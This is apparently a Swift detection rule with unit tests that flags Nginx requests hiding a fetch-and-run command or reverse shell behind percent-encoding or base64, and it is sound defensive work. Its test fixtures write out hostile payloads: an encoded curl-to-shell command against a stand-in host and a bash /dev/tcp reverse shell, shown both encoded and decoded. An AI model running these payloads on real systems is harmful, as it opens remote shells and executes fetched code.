import MargayKit

/// Finds requests that carry a command, however often it is percent-encoded, or base64 in a parameter.
struct EncodedCommandInRequest: Rule, Equatable {
  let id = "Nginx.EncodedCommandInRequest"
  let place: CodePlace? = .here()
  let logTypes = [NginxAccess.logType]
  let displayName: String? = "Command hidden in a request"
  let severity = Severity.medium
  let description =
    "The target of a request holds a command that fetches and runs something, or a shell for another machine, once its encoding is taken off."
  let reference = "https://owasp.org/www-community/attacks/Command_Injection"
  let runbook =
    "1. Was it answered with success? Then look for what it fetched on the server.\n2. Which component takes the parameter?\n3. Block the address while you look."
  let tags = ["Nginx", "Web", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1190"])]
  let summaryAttributes = ["remoteAddr", "request"]

  func matches(_ event: Event) -> Bool { command(event) != nil }

  private func command(_ event: Event) -> Text? {
    guard let target = NginxAccess.request(event)?.target else { return nil }
    let decoded = PercentDecoding.decodeFully(target)
    if Self.isCommand(decoded) { return decoded }
    for parameter in RequestTarget(target).parameters where parameter.value.utf8Count >= 16 {
      if let text = Base64.decodeText(parameter.value.string), Self.isCommand(Text(text)) {
        return Text(text)
      }
    }
    return nil
  }

  private static func isCommand(_ text: Text) -> Bool {
    ShellCommand.fetchesAndRuns(text) || ShellCommand.isReverseShell(text)
  }

  func title(_ event: Event) -> String? { "\(event.shown("remoteAddr")) sent a hidden command" }

  func dedup(_ event: Event) -> String? { event.groupKey("remoteAddr") }

  func severity(_ event: Event) -> Severity? { NginxAccess.isSuccess(event) ? .high : nil }

  func alertContext(_ event: Event) -> AlertContext {
    ["command": command(event), "request": event["request"]]
  }

  private static let log = TestLog(
    """
    {"time": "2026-03-02T09:00:00Z", "remoteAddr": "192.31.196.20", "status": 404, "bodyBytesSent": 10,
     "request": "GET /cgi?x=%253Bcurl%2520http%253A%252F%252Fx.test%252Fa%257Csh HTTP/1.1"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "encoded twice", matches: true, Self.log, title: "192.31.196.20 sent a hidden command",
        dedup: "192.31.196.20", severity: .medium),
      RuleTest("answered", matches: true, Self.log.with("status", 200), severity: .high),
      RuleTest(
        "base64 in a parameter", matches: true,
        Self.log.with(
          "request",
          "GET /a?run=YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTIuMzEuMTk2LjIwLzQ0NDQgMD4mMQ%3D%3D HTTP/1.1"),
        context: [
          "command": "bash -i >& /dev/tcp/192.31.196.20/4444 0>&1",
          "request":
            "GET /a?run=YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTIuMzEuMTk2LjIwLzQ0NDQgMD4mMQ%3D%3D HTTP/1.1",
        ]),
      RuleTest(
        "a search for a command", matches: false,
        Self.log.with("request", "GET /search?q=curl+manual HTTP/1.1")),
      RuleTest("no request line", matches: false, Self.log.with("request", "-")),
    ]
  }
}
